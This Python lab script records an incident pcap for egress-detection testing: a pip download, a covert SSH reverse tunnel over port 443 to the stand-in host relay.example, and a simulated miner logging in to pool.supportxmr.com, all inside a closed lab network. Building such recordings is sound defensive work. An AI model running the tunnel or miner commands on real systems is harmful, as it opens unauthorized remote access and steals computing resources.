"""Records incident.pcap in the lab: a dependency install that also does what it should not.

Real tools in the closed lab (tests/lab/lab.py; run as root):
  pip downloads a wheel from the lab's pypi.org and files.pythonhosted.org
  (nginx with TLS, names served by the lab's dnsmasq), as asked; then
  OpenSSH opens a reverse tunnel over port 443 to relay.example and someone
  at the relay uses it five times; and a Stratum miner (ours, XMRig's
  dialect: XMRig is not in Debian) logs in to pool.supportxmr.com on 3333.

    sudo .venv/bin/python examples/lab-incident/record.py examples/lab-incident/incident.pcap
"""

import shutil
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))
from tests.lab.lab import Lab  # noqa: E402
from tests.lab.test_egress_cases import wheel  # noqa: E402


def main(out: str) -> None:
    with tempfile.TemporaryDirectory(prefix="egress-lab-") as tmp, Lab(Path(tmp)) as lab:
        tmp = Path(tmp)
        wheel(tmp / "www")
        index = tmp / "www" / "simple" / "labpkg" / "index.html"
        index.write_text(index.read_text().replace(
            "../../packages/", "https://files.pythonhosted.org/packages/"))
        lab.start_dns({"pypi.org": "203.0.113.10", "files.pythonhosted.org": "203.0.113.11",
                       "relay.example": "198.51.100.7", "pool.supportxmr.com": "198.51.100.42"})
        lab.start_https("pypi.org", "203.0.113.10", root=tmp / "www")
        lab.start_https("files.pythonhosted.org", "203.0.113.11", root=tmp / "www")
        key = lab.start_sshd("198.51.100.7", 443)
        lab.add_server_address("198.51.100.42")
        py = [sys.executable, "-m", "tests.lab.stratum"]
        lab.spawn("net", "env", f"PYTHONPATH={ROOT}", *py, "pool", "198.51.100.42", "3333",
                  log="pool.log")
        lab.wait_port("198.51.100.42", 3333)
        lab.spawn("host", sys.executable, "-m", "http.server", "8080", "--bind", "127.0.0.1",
                  log="http.log")
        env = ["env", "PIP_CONFIG_FILE=/dev/null", f"PYTHONPATH={ROOT}"]
        with lab.recording() as capture:
            lab.host(*env, sys.executable, "-m", "pip", "download", "--isolated",
                     "--disable-pip-version-check", "--no-deps",
                     "--index-url", "https://pypi.org/simple/",
                     "--trusted-host", "pypi.org", "--trusted-host", "files.pythonhosted.org",
                     "-d", tmp / "got", "labpkg", timeout=60)
            tunnel = lab.spawn("host", "ssh", "-F", "/dev/null", "-i", key, "-p", "443", "-N",
                               "-o", "StrictHostKeyChecking=no",
                               "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
                               "-R", "9000:127.0.0.1:8080", "root@relay.example",
                               log="ssh.log")
            lab.wait_port("127.0.0.1", 9000)
            for _ in range(5):
                lab.net("curl", "-s", "-o", "/dev/null", "http://127.0.0.1:9000/")
                time.sleep(0.4)
            lab.host(*env, *py, "miner", "pool.supportxmr.com", "3333", "--shares", "4")
            lab.stop(tunnel)
        shutil.copy(capture, out)


if __name__ == "__main__":
    main(sys.argv[1])
